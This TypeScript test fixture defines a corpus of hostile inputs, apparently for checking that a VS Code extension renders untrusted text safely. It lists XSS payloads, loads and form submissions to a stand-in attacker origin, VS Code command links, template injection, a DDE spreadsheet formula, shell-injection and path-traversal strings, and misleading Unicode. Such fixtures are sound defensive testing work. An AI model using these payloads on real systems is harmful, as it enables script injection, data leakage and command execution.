/** Function that scripts of the corpus call; the opener of a page defines it to detect execution. */
export const alarm = 'hostileTextHasRun';

/**
 * Hostile texts: markup, scripts, links, requests, VS Code commands, templates, formulas, terminal codes, and
 * misleading characters. `attacker`: an origin that must not be contacted.
 */
export function corpus(attacker: string): readonly string[] {
  const host = attacker.replace(/^\w+:/, '');
  const run = `${alarm}()`;
  return [
    // Elements that execute something.
    `<script>${run}</script>`,
    `<script src="${attacker}/a.js"></script>`,
    `</script><script>${run}</script>`,
    `--><script>${run}</script><!--`,
    `]]><script>${run}</script>`,
    `</title></textarea></style><script>${run}</script>`,
    `<img src=x onerror=${run}>`,
    `<img src="${attacker}/pixel.png">`,
    `<IMG SRC=x ONERROR="${run}">`,
    `<svg onload=${run}>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
    `<svg><use href="${attacker}/a.svg#x"/></svg>`,
    `<math><mtext><style><img src=x onerror=${run}></style></mtext></math>`,
    `<details open ontoggle=${run}>x</details>`,
    `<input autofocus onfocus=${run}>`,
    `<select autofocus onfocus=${run}></select>`,
    `<video src=x onerror=${run}></video>`,
    `<audio src="${attacker}/a.mp3" autoplay></audio>`,
    `<marquee onstart=${run}>x</marquee>`,
    `<body onload=${run}>`,
    `<iframe src="javascript:${run}"></iframe>`,
    `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
    `<object data="javascript:${run}"></object>`,
    `<embed src="${attacker}/x.swf">`,
    `<template><script>${run}</script></template><img src=x onerror=${run}>`,
    // Escapes from an attribute, a string, a comment.
    `"><img src=x onerror=${run}>`,
    `'><svg onload=${run}>`,
    `" autofocus onfocus=${run} x="`,
    `\`><img src=x onerror=${run}>`,
    `";${run};//`,
    `';${run};'`,
    `\u2028${run}\u2029`,
    // Navigation and loading.
    `<meta http-equiv="refresh" content="0;url=${attacker}/gone">`,
    `<base href="${attacker}/">`,
    `<link rel="stylesheet" href="${attacker}/a.css">`,
    `<link rel="dns-prefetch" href="${host}">`,
    `<style>@import url("${attacker}/a.css");</style>`,
    `<div style="background:url(${attacker}/a.png)">x</div>`,
    `<form action="${attacker}"><input type=submit autofocus></form><script>document.forms[0].submit()</script>`,
    `<a href="javascript:${run}">x</a>`,
    `<a href="${attacker}/" ping="${attacker}/ping">x</a>`,
    `javascript:${run}`,
    `data:text/html,<script>${run}</script>`,
    // VS Code's own rendering: command links, images, icons, file links.
    '[Fix](command:workbench.action.terminal.new)',
    '<a href="command:workbench.action.terminal.new">Fix</a>',
    `![x](${attacker}/pixel.png)`,
    `[x](${attacker}/ "title")`,
    `<${attacker}/auto>`,
    '$(trash) $(sync~spin) icons',
    'vscode://vscode.git/clone?url=x',
    '**bold** `code` | cell\n# head',
    // Templates, formulas, terminals, shells.
    `{{constructor.constructor("${run}")()}}`,
    `\${${run}} #{${run}} <%= ${run} %>`,
    `=HYPERLINK("${attacker}/","x")`,
    "@SUM(1+1)*cmd|'/c calc'!A1",
    '\u001b]8;;https://example.com\u0007x\u001b]8;;\u0007',
    "'; $(touch x) `touch x` | touch x #",
    // Misleading keys and characters.
    '__proto__',
    'constructor',
    '../../../etc/passwd',
    '\u202egnp.exe\u202c',
    'pay\u200bpal',
    '\u0000\u0001\u007f\u009b',
    '\ud800 alone',
    'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!',
  ];
}
